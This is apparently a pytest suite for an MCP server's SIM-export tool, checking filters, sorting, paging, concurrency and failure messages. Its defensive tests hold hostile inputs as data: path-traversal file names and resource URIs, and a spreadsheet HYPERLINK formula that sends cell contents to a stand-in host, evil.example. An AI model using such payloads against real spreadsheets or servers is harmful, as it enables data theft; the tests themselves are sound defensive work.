"""Exports hold what emnify holds, in a file of their own in the one directory, and nothing else is touched."""

import csv
import json
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import anyio
import jsonschema
import pytest
from mcp import Client, MCPError
from mcp.server.mcpserver.exceptions import ToolError
from mcp.types import CallToolResult, ResourceLink, TextResourceContents
from pydantic import SecretStr

from sim_mcp.cli import call as shell
from sim_mcp.emnify import NotFoundError
from sim_mcp.exports.files import ExportFile, ExportRefusedError, Written
from sim_mcp.exports.rows import What
from sim_mcp.exports.service import WAITS_S, Export, Order
from sim_mcp.exports.sources import Selection
from sim_mcp.fleet.lookup.failures import LookupFailedError
from sim_mcp.sandbox import SandboxSettings, Unknowns
from sim_mcp.server.app import build_server
from sim_mcp.settings import Settings
from sim_mcp.tools.exports.export_sims import _tool_error, build, render
from tests.emnify.upstream import Reply, Upstream, upstream_running
from tests.processes.test_serving import environment
from tests.support import Fleet, fleet_of, structured, text_of
from tests.tools.checking import leaves, shown, tokens


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    made = tmp_path / "exports"
    made.mkdir()
    return made


@pytest.fixture
async def client(fleet: Fleet, directory: Path) -> AsyncIterator[Client]:
    async with Client(build_server(fleet.settings(export_dir=directory))) as client:
        yield client


def rows_in(path: str) -> list[dict[str, str]]:
    with Path(path).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def json_in(path: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(Path(path).read_text(encoding="utf-8"))
    return found


def size_of(path: str) -> int:
    return Path(path).stat().st_size


def names(directory: Path) -> list[str]:
    return sorted(path.name for path in directory.iterdir())


async def sims_of(fleet: Fleet, **query: Any) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = (await fleet.api("GET", "/sim", role="enterprise", params=query)).json()
    return found


async def test_all_sims_are_in_the_file_and_nothing_but_get_was_sent(fleet: Fleet, client: Client) -> None:
    there = {str(sim["id"]): sim for sim in await sims_of(fleet)}
    report = structured(await client.call_tool("export_sims", {}))
    rows = {row["id"]: row for row in rows_in(report["path"])}
    assert rows.keys() == there.keys()
    assert report["state"] == "done"
    assert report["rows"] == len(rows)
    assert report["bytes"] == size_of(report["path"])
    for key, sim in there.items():
        row, device = rows[key], sim.get("endpoint") or {}
        assert (row["iccid"], row["iccid_19"], row["imsi"]) == (sim["iccid_with_luhn"], sim["iccid"], sim["imsi"])
        assert row["iccid_in_groups"].replace("-", "") == sim["iccid_with_luhn"]
        assert row["status"] == sim["status"]["description"].title()
        assert row["device_id"] == str(device.get("id", ""))
    # A spreadsheet rounds an ICCID, but not this; so this has to lead back to the SIM.
    grouped = rows[str(fleet.scenarios["healthy"]["sim_id"])]["iccid_in_groups"]
    assert structured(await client.call_tool("get_sim", {"sim": grouped}))["id"] == fleet.scenarios["healthy"]["sim_id"]
    assert {request["method"] for request in await fleet.requests()} == {"GET"}


async def test_only_what_matches_is_exported(fleet: Fleet, client: Client) -> None:
    suspended = {sim["iccid"] for sim in await sims_of(fleet, q="status:2")}
    report = structured(await client.call_tool("export_sims", {"status": "suspended"}))
    assert {row["iccid_19"] for row in rows_in(report["path"])} == suspended
    assert suspended
    everything = await sims_of(fleet)
    for has_device in (True, False):
        report = structured(await client.call_tool("export_sims", {"has_device": has_device, "file_name": "devices"}))
        wanted = {sim["iccid"] for sim in everything if ("endpoint" in sim) is has_device}
        assert {row["iccid_19"] for row in rows_in(report["path"])} == wanted
    of = await client.call_tool("export_sims", {"customer": "Alpenwerk Devices", "format": "json"})
    assert {row["customer"] for row in json_in(structured(of)["path"])} == {"Alpenwerk Devices"}


@pytest.mark.parametrize(
    ("filters", "listed"),
    [
        ({"reseller": "Nordlicht IoT Vertrieb"}, {"reseller": "9100"}),
        ({"issuer": "2", "customer": ["13887", "13888"]}, {"customer": ["13887", "13888"]}),
        (
            {"status": ["issued", "active"], "has_device": False},
            {"status": ["issued", "activated"], "has_device": False},
        ),
        ({"model": ["industrial", "classic"]}, {"model": ["industrial", "classic"]}),
    ],
)
async def test_an_export_holds_what_a_list_with_the_same_filters_shows(
    fleet: Fleet, tmp_path: Path, filters: dict[str, Any], listed: dict[str, Any]
) -> None:
    async with Client(build_server(fleet.settings(role="issuer", export_dir=tmp_path))) as client:
        report = structured(await client.call_tool("export_sims", filters))
        page = structured(await client.call_tool("list_sims", {**listed, "per_page": 100}))
    assert {row["iccid"] for row in rows_in(report["path"])} == {row["iccid"] for row in page["sims"]}
    assert report["rows"] == page["total"] > 0


async def test_an_export_is_sorted_as_asked_by_several_keys(fleet: Fleet, tmp_path: Path) -> None:
    async with Client(build_server(fleet.settings(role="issuer", export_dir=tmp_path))) as client:
        report = structured(await client.call_tool("export_sims", {"sort": ["-customer", "iccid"]}))
        refused = await client.call_tool("export_sims", {"sort": ["activation_date"]})
    rows = rows_in(report["path"])
    customers = [row["customer_id"] for row in rows]
    assert len(set(customers)) > 2
    assert customers == sorted(customers, reverse=True)
    for customer in set(customers):
        iccids = [row["iccid"] for row in rows if row["customer_id"] == customer]
        assert iccids == sorted(iccids)
    assert "sort='activation_date': emnify cannot sort by it" in text_of(refused)


async def test_days_to_come_are_named_where_a_range_ends_in_them(fleet: Fleet, client: Client) -> None:
    today = f"{datetime.now(UTC):%Y-%m-%d}"
    end = f"{datetime.now(UTC) + timedelta(days=9):%Y-%m-%d}"
    sim = fleet.scenarios["healthy"]["iccid_with_luhn"]
    report = structured(
        await client.call_tool("export_sims", {"what": "usage", "sims": [sim], "start": today, "end": end})
    )
    assert f"Days after {today} are still to come." in report["hint"]
    assert {row["date"] for row in rows_in(report["path"])} <= {today}


async def test_usage_has_a_row_for_each_day_of_each_sim(fleet: Fleet, client: Client) -> None:
    sims = [fleet.scenarios[key]["iccid_with_luhn"] for key in ("healthy", "roaming_spike", "fresh")]
    report = structured(await client.call_tool("export_sims", {"what": "usage", "sims": sims}))
    rows = rows_in(report["path"])
    assert (report["rows"], report["of_sims"]) == (len(rows), 3)
    for sim in sims[:2]:
        mine = [row for row in rows if row["iccid"] == sim]
        used = {"sim": sim, "start": mine[0]["date"], "end": mine[-1]["date"]}
        told = structured(await client.call_tool("get_sim_daily_usage", used))
        assert [row["date"] for row in mine] == [day["date"] for day in told["days"]]
        assert sum(float(row["data_mb"]) for row in mine) == pytest.approx(told["total"]["data_mb"], abs=0.01)
        assert {row["currency"] for row in mine} == {"EUR"}


async def test_events_are_all_there_oldest_first(fleet: Fleet, client: Client) -> None:
    sim = fleet.scenarios["wrong_apn"]["iccid_with_luhn"]
    report = structured(await client.call_tool("export_sims", {"what": "events", "sims": [sim]}))
    rows = rows_in(report["path"])
    listed = structured(await client.call_tool("list_sim_events", {"sim": sim, "start": "2001-01-01"}))
    assert report["rows"] == len(rows) == len({row["event_id"] for row in rows})
    assert listed["total"] >= len(rows) > 3
    assert [row["time"] for row in rows] == sorted(row["time"] for row in rows)
    assert (rows[-1]["time"], rows[-1]["type"]) == (listed["events"][0]["time"], listed["events"][0]["type"])


async def test_events_are_exported_where_emnify_refuses_pages_over_a_hundred(directory: Path) -> None:
    refusing = SandboxSettings(sims=60, unknowns=Unknowns(event_page_over_100="400"))
    async with fleet_of(refusing) as fleet, Client(build_server(fleet.settings(export_dir=directory))) as client:
        sims = [fleet.scenarios[key]["iccid"] for key in ("went_silent", "no_quota")]
        report = structured(await client.call_tool("export_sims", {"what": "events", "sims": sims}))
    rows = rows_in(report["path"])
    assert report["rows"] == len(rows) == len({row["event_id"] for row in rows}) > 200
    assert {row["iccid"] for row in rows} == {
        fleet.scenarios[key]["iccid_with_luhn"] for key in ("went_silent", "no_quota")
    }


CALLS: list[dict[str, Any]] = [
    {"status": "suspended"},
    {"what": "usage", "status": "activated"},
    {"what": "events", "status": "suspended", "format": "json"},
    {"model": "no such model"},
    {"what": "usage", "model": "no such model"},
]


async def test_answers_fit_their_schema_and_stay_short_and_the_text_holds_every_fact(client: Client) -> None:
    schema = next(tool.output_schema for tool in (await client.list_tools()).tools if tool.name == "export_sims")
    assert schema is not None
    for arguments in CALLS:
        result = await client.call_tool("export_sims", arguments)
        structure, text = structured(result), text_of(result)
        jsonschema.validate(structure, schema)
        for name, value in leaves(structure):
            assert name == "state" or shown(name, value, text), f"{name}={value!r} is not in the text:\n{text}"
        assert tokens(text) < 700
        assert tokens(json.dumps(structure, separators=(",", ":"))) < 700


async def test_where_nothing_matches_there_is_no_file_and_that_is_said(client: Client, directory: Path) -> None:
    result = await client.call_tool("export_sims", {"model": "no such model"})
    assert structured(result)["state"] == "nothing"
    assert "No file was written" in text_of(result)
    assert names(directory) == []


async def test_a_file_is_never_written_over(client: Client, directory: Path) -> None:
    (directory / "fleet.csv").write_text("mine")
    paths = [structured(await client.call_tool("export_sims", {"file_name": "fleet.csv"}))["path"] for _ in range(2)]
    assert [Path(path).name for path in paths] == ["fleet-2.csv", "fleet-3.csv"]
    assert (directory / "fleet.csv").read_text() == "mine"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ({"file_name": "../fleet"}, "not a plain name"),
        ({"file_name": "/etc/cron.d/fleet"}, "not a plain name"),
        ({"file_name": ".bashrc"}, "not a plain name"),
        ({"sims": ["1"], "status": "suspended"}, "leave it out to filter"),
        ({"start": "2026-01-01"}, "what=usage"),
        ({"what": "usage", "start": "2026-02-01", "end": "2026-01-01"}, "swap them"),
        ({"what": "usage", "start": "2024-01-01", "end": "2026-01-01"}, "366 days"),
        ({"model": "a,b"}, "comma"),
        ({"format": "xlsx"}, "csv"),
    ],
)
async def test_what_cannot_be_exported_is_refused_with_nothing_sent_or_written(
    fleet: Fleet, client: Client, directory: Path, arguments: dict[str, Any], says: str
) -> None:
    result = await client.call_tool("export_sims", arguments)
    assert result.is_error
    assert says in text_of(result)
    assert re.search(r"[Nn]othing (was|changed)", text_of(result))
    assert names(directory) == []
    assert await fleet.requests() == []


@pytest.mark.parametrize("chosen", [None, "missing", "file"])
async def test_without_a_directory_that_can_be_written_to_nothing_is_asked(
    fleet: Fleet, tmp_path: Path, chosen: str | None
) -> None:
    (tmp_path / "file").touch()
    settings = fleet.settings(export_dir=None if chosen is None else tmp_path / chosen)
    async with Client(build_server(settings)) as client:
        result = await client.call_tool("export_sims", {})
    assert result.is_error
    assert "SIM_MCP_EXPORT_DIR" in text_of(result)
    assert "othing was written" in text_of(result)
    assert await fleet.requests() == []


async def test_a_name_nobody_goes_by_leaves_no_file(client: Client, directory: Path) -> None:
    for arguments in ({"sims": ["No such pump"]}, {"customer": "No such customer"}):
        result = await client.call_tool("export_sims", arguments)
        assert result.is_error
        assert "no file was kept" in text_of(result)
    assert names(directory) == []


async def test_a_client_fetches_the_file_by_its_link_and_no_other_file(
    fleet: Fleet, client: Client, directory: Path
) -> None:
    (directory / "mine.csv").write_text("secret")
    result = await client.call_tool("export_sims", {"file_name": "Flotte Zürich (März)", "status": "suspended"})
    link = next(block for block in result.content if isinstance(block, ResourceLink))
    assert link.uri == structured(result)["uri"]
    assert (link.mime_type, link.size) == ("text/csv", structured(result)["bytes"])
    content = (await client.read_resource(link.uri)).contents[0]
    assert isinstance(content, TextResourceContents)
    assert content.mime_type == "text/csv"
    assert [row["status"] for row in csv.DictReader(content.text.splitlines())] == ["Suspended"] * structured(result)[
        "rows"
    ]
    before = len(await fleet.requests())
    for uri in (
        "export://files/mine.csv",
        "export://files/..%2Fexports%2Fmine.csv",
        "export://files/%2Fetc%2Fhostname.csv",
        f"export://files/{link.name.replace('.csv', '.json')}",
    ):
        with pytest.raises(MCPError) as caught:
            await client.read_resource(uri)
        assert "secret" not in str(caught.value)
    assert len(await fleet.requests()) == before
    templates = (await client.list_resource_templates()).resource_templates
    assert {template.mime_type for template in templates} == {"text/csv", "application/json"}


async def test_where_only_reading_is_allowed_exports_are_offered_and_say_what_they_do(fleet: Fleet) -> None:
    async with Client(build_server(fleet.settings(read_only=True))) as client:
        tool = next(tool for tool in (await client.list_tools()).tools if tool.name == "export_sims")
    assert tool.annotations is not None
    assert (tool.annotations.read_only_hint, tool.annotations.destructive_hint) == (False, False)


def page(*sims: dict[str, Any], pages: int = 1, total: int | None = None, after: Any = None) -> Reply:
    told = {"X-Total-Pages": str(pages), "X-Total-Count": str(len(sims) if total is None else total)}
    return Reply(json=list(sims), headers=told, after=after)


@asynccontextmanager
async def scripted(directory: Path, *, waits_s: float = WAITS_S) -> AsyncIterator[tuple[Upstream, Client]]:
    async with upstream_running() as upstream:
        settings = Settings(
            base_url=upstream.base_url,
            application_token=SecretStr("x"),
            export_dir=directory,
            state_dir=directory.parent,
        )
        async with Client(build_server(settings, waits_s=waits_s)) as client:
            yield upstream, client


async def test_what_a_customer_called_a_device_is_no_formula(directory: Path) -> None:
    async with scripted(directory) as (upstream, client):
        name = '=HYPERLINK("http://evil.example?"&A1,"Click")'
        upstream.script(page({"id": 1, "endpoint": {"id": 2, "name": name, "tags": "x;=1+1"}}))
        row = rows_in(structured(await client.call_tool("export_sims", {}))["path"])[0]
        assert (row["device"], row["tags"]) == (f"'{name}", "x;'=1+1")
        as_json = structured(await client.call_tool("export_sims", {"format": "json"}))
        assert json_in(as_json["path"])[0]["device"] == name


async def test_a_long_export_goes_on_by_itself_and_the_same_call_picks_it_up(directory: Path) -> None:
    async with scripted(directory, waits_s=0) as (upstream, client):
        go_on = anyio.Event()
        upstream.script(
            page({"id": 1}, pages=2, total=2),
            page({"id": 2}, pages=2, total=2, after=go_on),
        )
        first = await client.call_tool("export_sims", {"file_name": "fleet"})
        assert structured(first)["state"] == "running"
        assert structured(first)["next"] == 'export_sims(file_name="fleet")'
        assert "Still running" in text_of(first)
        while len(upstream.calls) < 2:
            upstream.called.clear()
            await upstream.called.wait()
        told = structured(first)
        # The second page is asked for while the first is written.
        while told["rows"] == 0:
            told = structured(await client.call_tool("export_sims", {"file_name": "fleet"}))
        assert told["rows"] == told["of_sims"] - 1 == 1
        assert all(name.endswith(".part") for name in names(directory))
        go_on.set()
        report = told
        while report["state"] == "running":
            report = structured(await client.call_tool("export_sims", {"file_name": "fleet"}))
        assert (report["rows"], names(directory)) == (2, ["fleet.csv"])
        assert len(upstream.calls) == 2


async def test_who_asks_for_the_same_at_the_same_time_shares_one_file(directory: Path) -> None:
    async with scripted(directory) as (upstream, client):
        go_on = anyio.Event()
        upstream.script(page({"id": 1}, after=go_on))
        reports: list[dict[str, Any]] = []

        async def ask() -> None:
            reports.append(structured(await client.call_tool("export_sims", {"file_name": "fleet"})))

        async with anyio.create_task_group() as asking:
            asking.start_soon(ask)
            asking.start_soon(ask)
            await upstream.called.wait()
            go_on.set()
        assert reports[0] == reports[1]
        assert (len(upstream.calls), names(directory)) == (1, ["fleet.csv"])


async def test_a_fourth_export_at_a_time_is_refused(directory: Path) -> None:
    async with scripted(directory, waits_s=0) as (upstream, client):
        upstream.script(page({"id": 1}, after=anyio.Event()))
        for name in ("a", "b", "c"):
            assert structured(await client.call_tool("export_sims", {"file_name": name}))["state"] == "running"
        result = await client.call_tool("export_sims", {"file_name": "d"})
        assert result.is_error
        assert "3 exports are in the making" in text_of(result)
        assert len(names(directory)) == 3
    assert names(directory) == []


async def test_a_client_that_goes_away_leaves_no_file_and_nothing_running(directory: Path) -> None:
    async with scripted(directory) as (upstream, client):
        upstream.script(page({"id": 1}, after=anyio.Event()))
        async with anyio.create_task_group() as asking:
            asking.start_soon(client.call_tool, "export_sims", {"file_name": "fleet"})
            await upstream.called.wait()
            asking.cancel_scope.cancel()
        upstream.script(page({"id": 1}))
        assert structured(await client.call_tool("export_sims", {"file_name": "fleet"}))["rows"] == 1
        assert names(directory) == ["fleet.csv"]


async def test_a_server_that_stops_ends_what_it_was_making(directory: Path) -> None:
    async with scripted(directory, waits_s=0) as (upstream, client):
        upstream.script(page({"id": 1}, after=anyio.Event()))
        assert structured(await client.call_tool("export_sims", {}))["state"] == "running"
    assert names(directory) == []


async def test_a_token_revoked_in_the_middle_is_told_with_how_far_it_came(directory: Path) -> None:
    async with scripted(directory) as (upstream, client):
        upstream.script(page({"id": 1}, pages=9, total=9), Reply(status=401))
        result = await client.call_tool("export_sims", {})
        assert result.is_error
        assert "renew EMNIFY_APPLICATION_TOKEN" in text_of(result)
        assert "ended after 1 rows; no file was kept" in text_of(result)
        assert names(directory) == []
        upstream.script(page({"id": 1}))
        assert structured(await client.call_tool("export_sims", {}))["rows"] == 1


async def test_usage_of_more_sims_than_one_file_may_hold_is_refused(directory: Path) -> None:
    async with scripted(directory) as (upstream, client):
        upstream.script(page({"id": 1}, pages=9, total=20_000))
        result = await client.call_tool("export_sims", {"what": "usage"})
        assert result.is_error
        assert "20,000 SIMs or more match" in text_of(result)
        assert len(upstream.calls) == 1
        assert names(directory) == []


async def test_what_could_not_be_read_and_who_went_away_is_told(directory: Path) -> None:
    async with scripted(directory) as (upstream, client):
        upstream.script(page({"id": 1}, {"no": "id"}))
        result = await client.call_tool("export_sims", {})
        assert "1 records were left out" in structured(result)["hint"]
        day = {"date": "2026-03-01", "data": {"volume": "1.5"}}
        upstream.script(page({"id": 1}, {"id": 2}), Reply(json=[day]), Reply(status=404))
        usage = structured(await client.call_tool("export_sims", {"what": "usage"}))
        assert "1 SIM went away" in usage["hint"]
        assert (usage["rows"], usage["of_sims"]) == (1, 2)


async def test_the_shell_waits_until_the_file_is_there(fleet: Fleet, directory: Path) -> None:
    # The first call cannot have the file: emnify takes longer to answer than a call waits.
    await fleet.faults("latency=0.2@/api/v1/sim")
    server = build_server(fleet.settings(export_dir=directory), waits_s=0.05)
    result: CallToolResult = await shell.call(server, "export_sims", ["file_name=fleet"], interactive=False)
    assert structured(result)["state"] == "done"
    assert names(directory) == ["fleet.csv"]


async def test_on_a_full_disk_a_person_is_told_and_nothing_is_left(fleet: Fleet, directory: Path) -> None:
    env = environment(fleet, SIM_MCP_EXPORT_DIR=str(directory), PYTHONDONTWRITEBYTECODE="1")
    # What measures coverage would write a file of its own, for which there is no room either.
    env = {name: value for name, value in env.items() if not name.startswith("COVERAGE_")}
    words = [sys.executable, "-m", "sim_mcp", "call", "export_sims"]
    command = ["bash", "-c", 'ulimit -f 8; exec "$@"', "bash", *words]
    done = await anyio.to_thread.run_sync(
        lambda: subprocess.run(command, check=False, capture_output=True, text=True, env=env, timeout=60)
    )
    assert done.returncode == 1
    assert "no more room" in done.stderr
    assert "Traceback" not in done.stderr
    assert names(directory) == []


@pytest.mark.parametrize(
    ("failure", "rows", "message"),
    [
        (ExportRefusedError("There is no more room."), 7, "There is no more room."),
        (NotFoundError("emnify knows no SIM"), 0, "The export ended before its first row; no file was kept. "),
        (LookupFailedError("No SIM found"), 1_000, "The export ended after 1,000 rows; no file was kept. "),
    ],
)
async def test_a_failure_says_how_far_it_came_and_that_nothing_was_kept(
    failure: Exception, rows: int, message: str, directory: Path
) -> None:
    error = _tool_error(export_of(directory, rows=rows), failure)
    assert isinstance(error, ToolError)
    assert str(error).startswith(message)


async def test_a_crash_is_no_message_for_the_model(directory: Path) -> None:
    crash = RuntimeError("secret")
    assert _tool_error(export_of(directory), crash) is crash


@pytest.mark.parametrize(
    ("what", "rows", "text"),
    [
        ("sims", 1, "Done: 1 SIM, 10 bytes"),
        ("sims", 2_000, "Done: 2,000 SIMs, 10 bytes"),
        ("usage", 1, "Done: 1 row of daily usage of 5 SIMs, 10 bytes"),
        ("usage", 2, "Done: 2 rows of daily usage of 5 SIMs, 10 bytes"),
        ("events", 2, "Done: 2 events of 5 SIMs, 10 bytes"),
    ],
)
async def test_rows_are_called_what_they_are(directory: Path, what: What, rows: int, text: str) -> None:
    export = export_of(directory, what, rows=rows, sims=5, written=Written(directory / "a.csv", rows, 10))
    export.over.set()
    answer = build(export, 0.0)
    assert render(answer, what).startswith(f"{text}, as of 2026-11-22T12:00:00Z.\nPath: {directory}")


@pytest.mark.parametrize(
    ("made", "hint"),
    [
        ({"unreadable": 1_000}, "1,000 records were left out, for emnify sent them in a form nobody knows."),
        ({"gone": 1}, "1 SIM went away meanwhile."),
        ({"gone": 2}, "2 SIMs went away meanwhile."),
        ({}, None),
    ],
)
async def test_what_is_missing_is_said(directory: Path, made: dict[str, Any], hint: str | None) -> None:
    export = export_of(directory, rows=1, **made)
    answer = build(export, 0.0)
    assert (answer.state, answer.hint) == ("running", hint)
    assert hint is None or f"\n{hint}\n" in render(answer, "sims")


@pytest.mark.parametrize(
    ("what", "hint"), [("sims", "Leave a filter out to see what there is."), ("usage", "Days without traffic or")]
)
async def test_where_nothing_matches_the_likeliest_reason_is_given(directory: Path, what: What, hint: str) -> None:
    export = export_of(directory, what)
    export.over.set()
    answer = build(export, 0.0)
    assert answer.state == "nothing"
    assert (answer.hint or "").startswith(hint)
    assert f"\n{hint}" in render(answer, what)


def export_of(directory: Path, what: What = "sims", **made: Any) -> Export:
    selection = Selection(what)
    file = ExportFile(directory, "a.csv", "csv", ["id"])
    file.discard()
    order = Order("export_sims()", selection, "csv", "a.csv")
    return Export(order, file, 0.0, as_of=datetime(2026, 11, 22, 12, tzinfo=UTC), **made)
